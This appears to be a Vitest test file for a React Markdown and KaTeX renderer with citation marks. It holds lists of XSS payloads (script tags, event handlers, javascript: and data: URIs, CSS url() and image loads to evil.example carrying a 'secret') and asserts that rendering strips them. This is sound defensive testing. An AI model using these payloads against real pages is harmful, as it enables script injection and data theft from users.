import katex from "katex";
import { NextIntlClientProvider } from "next-intl";
import { renderToStaticMarkup } from "react-dom/server";
import ReactMarkdown from "react-markdown";
import { beforeAll, describe, expect, it } from "vitest";
import messages from "#i18n/en.json" with { type: "json" };
import type { Citation } from "#lib/conversation/schema.ts";
import { CitationContext } from "../citations/citation-mark.tsx";
import { loadMarkdownCloser, Markdown } from "./markdown.tsx";
import { mathEngine } from "./math.tsx";
import { mathOptions } from "./math-engine.ts";

const citations: Citation[] = [
  { number: 1, documentId: "doc_1", title: 'A "<b>guide</b>"', headingPath: [], pages: null, excerpt: "" },
];

function render(text: string, isStreaming = false): string {
  return renderToStaticMarkup(
    <NextIntlClientProvider locale="en" timeZone="UTC" messages={messages}>
      <CitationContext value={{ citations, open: () => {} }}>
        <Markdown text={text} hasCitations isStreaming={isStreaming} />
      </CitationContext>
    </NextIntlClientProvider>,
  );
}

const hostile = [
  "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg/onload=alert(1)>",
  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) [d](vbscript:x)",
  "[e](data:text/html;base64,PHNjcmlwdD4=) ![f](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![a](https://evil.example/?d=secret) [![b](https://evil.example/b)](https://evil.example)",
  "![ref][pic] ![pic]\n\n[pic]: https://evil.example/p.png 'onerror=alert(1)'",
  '[1](https://evil.example) [[1]](https://evil.example) [x][1] [1]\n[1]: javascript:alert(1) "t"',
  "[1]: https://evil.example\n\nTrust [1] and [1][] and [words][1]",
  "<iframe src=//evil.example></iframe><link rel=preload href=//evil.example><style>*{background:url(//evil.example)}</style>",
  "<form id=config name=config action=//evil.example><input name=attributes><button value=1>x</button></form>",
  "Note[^1] and [^__proto__]\n\n[^1]: <a name=x id=y href='javascript:1'>z</a>\n[^__proto__]: q",
  '```"><img src=x onerror=alert(1)>\ncode\n```\n\n~~~html onload=alert(1)\n<script>x</script>\n~~~',
  "$$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)} \\includegraphics{https://evil.example/x}$$",
  "\\(\\htmlId{config}{x} \\htmlClass{y}{x} \\htmlStyle{background:url(//evil.example)}{x} \\htmlData{a=b}{x}\\)",
  "$$\n\\def\\a{\\a\\a}\\a \\color{url(//evil.example)}x \\style{x}{y}\n$$\n\n```math\n\\href{javascript:1}{x}\n```",
  "| a | <img src=x onerror=alert(1)> |\n|:-:|---|\n| [x](javascript:1 'id=a') | ![i](//evil.example) |",
  "# Title <a id=x name=y onclick=alert(1)>z</a> {#id}\n\n- [ ] <input autofocus onfocus=alert(1)>",
  "<https://evil.example/<script>> <javascript:alert(1)> www.evil.example/<img> [a](<javascript:alert(1)>)",
  '[x](https://evil.example "onmouseover=alert(1)") &lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
];

const hostileTags = [
  "<sub onclick=alert(1)>a</sub> <sup style='background:url(//evil.example)'>b</sup> <br onload=alert(1) id=x>",
  "<sub><script>alert(1)</script></sub> <sup id=config name=x>2</sup><br/src=x onerror=alert(1)>",
  "[a][x] <sub>[b][y]</sub>\n\n[x]: javascript:alert(1) 'onclick=1'\n[y]: <https://evil.example/\"onmouseover=1>",
  'https://evil.example/（"onclick=alert(1)）www.evil.example。<img src=x onerror=alert(1)>',
];

const allowedTags = new Set(
  "div p span a strong em del sub sup code pre ul ol li blockquote h3 h4 h5 h6 hr br table thead tbody tr th td section figure button svg path rect input".split(
    " ",
  ),
);
const mathTags = /^(math|semantics|annotation|m[a-z]+)$/;

/**
 * Expects only tags and attributes that our components render; the text itself is escaped and contains no
 * `<`.
 */
function expectHarmless(html: string, source: string): void {
  for (const [, tag, attributes] of html.matchAll(
    /<([a-zA-Z][\w-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    expect(allowedTags.has(tag ?? "") || mathTags.test(tag ?? ""), `<${tag}> from ${source}`).toBe(true);
    for (const [, name, value] of (attributes ?? "").matchAll(/\s([^\s=>]+)(?:="([^"]*)")?/g)) {
      const shown = `${tag} ${name}="${value}" from ${source}`;
      expect(name, shown).not.toMatch(
        /^(on|id$|name$|src|srcset|poster|action|formaction|ping|background|xlink)/i,
      );
      if (name === "href") expect(value, shown).toMatch(/^(https?:|mailto:)/);
      if (name === "style") expect(value, shown).not.toMatch(/url|expression|import/i);
      if (tag === "input") expect(["type", "disabled", "checked", "aria-label"], shown).toContain(name);
      if (tag === "button") expect(name, shown).not.toBe("value");
    }
  }
  expect(html).not.toMatch(/<(script|img|iframe|link|style|object|embed|form|base|meta|video|audio)\b/i);
}

describe.each(["without", "with"])("hostile text %s math", (math) => {
  beforeAll(async () => {
    await loadMarkdownCloser();
    if (math === "with") await mathEngine.load();
  });

  it.each([...hostile, ...hostileTags])("%j is harmless at every prefix", (source) => {
    for (let end = 1; end <= source.length; end++) expectHarmless(render(source.slice(0, end), true), source);
    expectHarmless(render(source), source);
    expectHarmless(render(`> ${source}`), source);
    expectHarmless(render(`- ${source}`), source);
  });
});

describe("KaTeX", () => {
  it.each(hostile)("renders %j harmlessly", (source) => {
    for (const code of [source, source.replace(/\\[()]|\$/g, "")]) {
      const html = katex.renderToString(code, { ...mathOptions, displayMode: true });
      expectHarmless(html.replace(/xmlns="[^"]*"/g, ""), source);
    }
  });
});

describe("Markdown", () => {
  it("keeps a mark on the line of the word before it, and marks in a row together", () => {
    const held = (text: string) =>
      [...render(text).matchAll(/<span class="with-mark">(.*?)<\/span>/g)].map(([, inner = ""]) =>
        inner.replace(/<button[^>]*>(\d+)<\/button>/g, "[$1]"),
      );
    expect(held("It takes 6 days. [1] It costs EUR 18 [1][7].")).toEqual(["days.[1]", "18[1][7]"]);
    expect(held('- One\n- "All phones". [1]')).toEqual(["phones&quot;.[1]"]);
    expect(held("电池可以取出。 [1]")).toEqual(["出。[1]"]);
    expect(held("取出电池 [1]")).toEqual(["电池[1]"]);
    expect(held(`${"x".repeat(90)} [1]`)).toEqual([`${"x".repeat(24)}[1]`]);
    expect(render(`${"x".repeat(90)} [1]`)).toContain("x".repeat(66));
  });

  it("sets a paragraph of marks alone close to what it belongs to", () => {
    expect(render("| a |\n|---|\n| b |\n\n[1]")).toMatch(/<p class="mark-line"><button/);
    expect(render("A word. [1]")).not.toContain("mark-line");
  });

  it("gives a cell with a long text room in a narrow table", () => {
    const html = render("| a | b |\n|---|---|\n| short | Mon–Fri 8:00–18:00, Sat 9:00–14:00 |");
    expect(html.match(/<td[^>]*class="long-cell"[^>]*>Mon/g)).toHaveLength(1);
    expect(html.match(/long-cell/g)).toHaveLength(1);
  });

  it("turns marks into citations and opens only those the server sent", () => {
    const html = render("Yes. [1] No. [7] `[1]` [^2]");
    expect(html).toContain('aria-label="Source 1: A &quot;&lt;b&gt;guide&lt;/b&gt;&quot;"');
    expect(html).toMatch(/<button[^>]*disabled=""[^>]*aria-label="Source 7 is no longer available"/);
    expect(html).toContain('<code dir="ltr">[1]</code>');
    expect(html.match(/<button/g)).toHaveLength(2);
  });

  it("leaves other brackets with numbers as they are", () => {
    const html = render("Press [1] for help. It is [1, 2], and a[1] is 3. So it is. [1]");
    expect(html).toContain("Press [1] for help. It is [1, 2], and a[1] is 3.");
    expect(html.match(/aria-label="Source 1/g)).toHaveLength(1);
  });

  it("does not let the text define the target of a mark", () => {
    const html = render("[1]: https://evil.example\n\nTrust [1], [1](https://evil.example)");
    expect(html).toContain('class="citation-mark"');
    expect(html).toContain("(evil.example)");
    expect(html.match(/href=/g)).toHaveLength(1);
  });

  it("drops a partial mark and closes open emphasis", async () => {
    await loadMarkdownCloser();
    expect(render("A **bold wo", true)).toContain("<strong>bold wo</strong>");
    expect(render("Yes. [1", true)).not.toContain("[");
  });

  it("renders math with every delimiter and leaves prices unchanged", async () => {
    await mathEngine.load();
    expect(render("$x^2$ \\(y\\)\n\n\\[z\\]").match(/<span[^>]*><\/span>/g)).toHaveLength(3);
    expect(render("from $5 to $10")).toContain("from $5 to $10");
  });

  it("renders finished blocks as the whole text would", () => {
    const source = "# A\n\ntext **b**\n\n- a\n\n- b\n\n> q";
    const tags = (html: string) => html.match(/<(p|li|ul|blockquote|strong)/g);
    expect(tags(render(source))).toEqual(tags(renderToStaticMarkup(<ReactMarkdown>{source}</ReactMarkdown>)));
  });
});
